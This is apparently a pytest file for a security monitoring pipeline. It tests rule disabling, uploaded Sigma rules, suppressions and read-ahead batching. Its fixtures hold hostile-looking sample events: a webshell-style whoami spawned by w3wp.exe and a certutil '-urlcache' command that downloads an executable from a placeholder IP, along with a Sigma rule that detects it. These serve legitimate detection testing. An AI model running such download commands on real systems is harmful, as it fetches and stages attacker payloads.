"""The ingest pipeline with the real detectors: what the console changes in the store
(disabled rules, uploaded rules, suppressions) changes what detection raises."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from collectors.base import Batch
from govsoc.events import event_id, new_event
from govsoc.pipeline import build_pipeline
from store.base import AlertFilter, EventQuery, Suppression
from store.sqlite import SQLiteStore

T0 = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
WEBSHELL_RULE = "e7eddcb6-8001-462f-8b77-37a3f3afc779"
UPLOADED = """
title: Uploaded - Certutil Download
id: 5b1a0c2e-7d4e-4c55-9a0b-6f1e2d3c4b5a
status: test
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\\\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: selection
level: high
"""


def sysmon(n: int, parent: str, image: str, command: str, host: str = "PORTAL01") -> dict:
    event = new_event("windows.sysmon_operational", T0 + timedelta(seconds=n),
                      host__name=host)
    event["event"].update(id=event_id("pipeline-test", n), code="1")
    event["winlog"] = {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                       "event_data": {"ParentImage": parent, "Image": image,
                                      "CommandLine": command}}
    return event


W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"


def test_rules_disabled_uploaded_and_suppressed_in_the_console(config, tmp_path):
    store = SQLiteStore(config.sqlite_path)
    pipeline = build_pipeline(config, store)
    pipeline.submit(Batch(events=[sysmon(1, W3WP, r"C:\Windows\System32\whoami.exe",
                                         "whoami")]))
    assert [a.rule_id for a in store.list_alerts().items] == [WEBSHELL_RULE]

    store.set_setting("rules.disabled", [WEBSHELL_RULE])
    store.set_setting("rules.custom", {"up1": {"language": "sigma", "text": UPLOADED}})
    store.add_suppression(Suppression("*", "host.name", "lab-pc", "ana", T0))
    pipeline = build_pipeline(config, store)
    pipeline.submit(Batch(events=[
        sysmon(2, W3WP, r"C:\Windows\System32\whoami.exe", "whoami", host="PORTAL02"),
        sysmon(3, r"C:\Windows\explorer.exe", r"C:\Windows\System32\certutil.exe",
               "certutil -urlcache -f http://203.0.113.9/a.exe a.exe"),
        sysmon(4, r"C:\Windows\explorer.exe", r"C:\Windows\System32\certutil.exe",
               "certutil -urlcache -f http://203.0.113.9/a.exe a.exe", host="lab-pc"),
    ]))
    names = sorted(a.rule_name for a in store.list_alerts(AlertFilter()).items)
    assert names == ["Uploaded - Certutil Download",
                     "Webshell Execution - Web Server Process Spawns a Shell or Recon Tool"]
    webshell = store.list_alerts(AlertFilter(rule_ids=[WEBSHELL_RULE])).items
    assert len(webshell) == 1 and webshell[0].host == "PORTAL01"  # the second was not raised
    store.close()


def _plain(n: int) -> dict:
    event = new_event("test.sample", T0 + timedelta(seconds=n), message=f"line {n}")
    event["event"]["id"] = event_id("read-ahead-test", n)
    return event


def test_read_ahead_keeps_order_and_stays_bounded(tmp_path):
    from govsoc.pipeline import Pipeline

    produced: list[int] = []
    seen_ahead: list[int] = []

    def batches():
        for i in range(20):
            produced.append(i)
            yield Batch([_plain(i * 10 + k) for k in range(10)])

    store = SQLiteStore(tmp_path / "govsoc.db")
    pipeline = Pipeline(store, [])
    pipeline.run(batches(), lambda result, batch: seen_ahead.append(len(produced)),
                 read_ahead=3)
    assert pipeline.stats.stored == 200
    # the reader never ran more than the queue depth (+ the batch being put) ahead
    assert all(ahead - (i + 1) <= 4 for i, ahead in enumerate(seen_ahead))
    assert store.count_events(EventQuery()) == 200


def test_read_ahead_raises_the_readers_error_after_what_came_before(tmp_path):
    import pytest

    from govsoc.pipeline import Pipeline

    def batches():
        yield Batch([_plain(1)])
        raise OSError("disk went away")

    store = SQLiteStore(tmp_path / "govsoc.db")
    pipeline = Pipeline(store, [])
    with pytest.raises(OSError, match="disk went away"):
        pipeline.run(batches(), read_ahead=2)
    assert pipeline.stats.stored == 1
